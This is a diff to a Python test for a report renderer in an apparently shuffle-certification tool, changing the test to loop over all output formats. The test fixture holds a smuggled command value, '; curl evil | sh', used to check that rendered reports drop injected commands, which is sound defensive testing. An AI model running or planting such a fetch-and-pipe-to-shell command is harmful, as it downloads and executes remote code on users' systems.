@@ -3,7 +3,7 @@ import copy
 import json
 import shlex
 
-from program import InFolder, run, words_of
+from program import InFolder, formats, run, words_of
 from schemas import REPORT_SCHEMA
 
 
@@ -323,10 +323,10 @@ class Check(InFolder):
         report["command"] = "fairshuffle certify sattolo --n 3; curl evil | sh"
         path = self.path / "report.json"
         path.write_text(json.dumps(report))
-        for arguments in ([], *(["--format", name] for name in ("html", "junit", "markdown", "csv"))):
+        for arguments in ([], *(["--format", name] for name in formats())):
             drawn = run("report", str(path), *arguments).stdout.replace("<wbr>", "")
             self.assertNotIn("curl", drawn)
-            if arguments[1:] != ["csv"]:
+            if not arguments or arguments[1] in ("html", "junit", "markdown"):
                 self.assertIn("fairshuffle certify sattolo:n=3 --trials 1000 --seed 1", drawn)
         self.assertNotIn("curl", run("check", str(path)).stdout)
 
